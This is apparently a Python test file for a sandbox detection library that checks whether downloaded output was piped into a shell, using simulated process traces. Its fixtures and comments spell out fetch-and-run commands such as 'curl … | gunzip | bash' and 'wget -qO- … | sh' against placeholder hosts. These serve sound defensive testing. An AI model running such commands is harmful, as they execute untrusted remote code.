"""Which shell ran a process's output: exact from the fds the tracer shows, inferred without."""

from __future__ import annotations

import dataclasses

from detonate.detect.correlations.pipelines import Consumer, consumers
from detonate.detect.correlations.run_index import RunIndex
from detonate.detect.interface import RunView
from detonate.model.events import ProcessExecuted

from .stream import Stream


def without_fds(view: RunView) -> RunView:
    """The same run as a trace recorded before the tracer showed fds."""
    events = tuple(
        dataclasses.replace(e, stdin="", stdout="") if isinstance(e, ProcessExecuted) else e
        for e in view.events
    )
    return dataclasses.replace(view, events=events)


def consumers_of(view: RunView, producer: int) -> list[Consumer]:
    return consumers(RunIndex(view), producer)


def test_pipe_through_a_filter_is_followed_whatever_the_fork_order() -> None:
    # curl … | gunzip | bash, with bash forked first and the download starting 5 s later:
    # the fork-order inference cannot see this pipeline, the pipe ids can
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.spawn(1, 4, "bash", path="/bin/bash", stdin="pipe:[12]", stdout="container-output")
    s.spawn(1, 3, "gunzip", path="/bin/gunzip", stdin="pipe:[11]", stdout="pipe:[12]")
    s.fork(1, 2)
    s.exec(2, "curl", "-s", "http://x.test/p.gz", stdout="pipe:[11]", path="/usr/bin/curl")
    s.ts += 5
    s.connect(2, "192.0.2.10", 80)
    assert consumers_of(s.view(), 2) == [Consumer(4, "pipe", (3,))]
    assert consumers_of(without_fds(s.view()), 2) == []


def test_stdin_shell_forked_beside_a_download_is_not_fed_by_it() -> None:
    # entrypoint: `wget -q -O /var/cache/app.tgz … & exec-less bash` — an interactive bash
    # forked right after the download: siblings, but the fds show no pipe between them
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.spawn(
        1,
        2,
        "wget",
        "-q",
        "-O",
        "/var/cache/app.tgz",
        "http://mirror.test/app.tgz",
        stdin="/dev/null",
        stdout="container-output",
    )
    s.spawn(1, 3, "bash", path="/bin/bash", stdin="/dev/null", stdout="container-output")
    s.connect(2, "192.0.2.80", 80)
    s.exit(2)
    s.exit(3)
    assert consumers_of(s.view(), 2) == []
    # the fallback for old traces still infers the pipeline from the fork order
    assert consumers_of(without_fds(s.view()), 2) == [Consumer(3, "pipe")]


def test_download_piped_into_grep_feeds_no_shell() -> None:
    # curl -s https://api.test/version | grep -q 1.2 && sh /srv/migrate.sh
    s = Stream()
    s.exec(1, "sh", "/entry.sh", path="/bin/sh")
    s.spawn(1, 2, "curl", "-s", "https://api.test/version", stdout="pipe:[5]")
    s.spawn(1, 3, "grep", "-q", "1.2", stdin="pipe:[5]", stdout="container-output")
    s.spawn(1, 4, "sh", path="/bin/sh", stdin="/dev/null", stdout="container-output")
    s.connect(2, "192.0.2.30", 443)
    assert consumers_of(s.view(), 2) == []


def test_pipe_read_by_no_stdin_falls_back_to_command_substitution() -> None:
    # sh -c "$(curl -fsSL http://x.test/i)": the outer shell reads the pipe on another fd
    s = Stream()
    s.exec(1, "sh", "-c", 'sh -c "$(curl -fsSL http://x.test/i)"', path="/bin/sh")
    s.fork(1, 2)
    s.spawn(2, 3, "curl", "-fsSL", "http://x.test/i", stdout="pipe:[9]")
    s.connect(3, "192.0.2.10", 80)
    s.exit(3)
    s.exit(2)
    s.spawn(1, 4, "sh", "-c", "echo pwned", path="/bin/sh", stdout="container-output")
    assert consumers_of(s.view(), 3) == [Consumer(4, "command-substitution")]


def test_busybox_applet_run_through_proc_self_exe_is_a_producer() -> None:
    # busybox sh running `wget -qO- … | sh`: both stages re-exec /proc/self/exe
    s = Stream()
    s.exec(1, "sh", "-c", "wget -qO- http://x.test/p.sh | sh", path="/bin/sh")
    s.fork(1, 2)
    s.fork(1, 3)
    s.add(
        ProcessExecuted,
        2,
        path="/proc/self/exe",
        exe="/bin/busybox",
        applet="wget",
        argv=("wget", "-qO-", "http://x.test/p.sh"),
        stdout="pipe:[3]",
    )
    s.add(
        ProcessExecuted,
        3,
        path="/proc/self/exe",
        exe="/bin/busybox",
        applet="sh",
        argv=("sh",),
        stdin="pipe:[3]",
    )
    s.connect(2, "192.0.2.10", 80)
    assert consumers_of(s.view(), 2) == [Consumer(3, "pipe")]
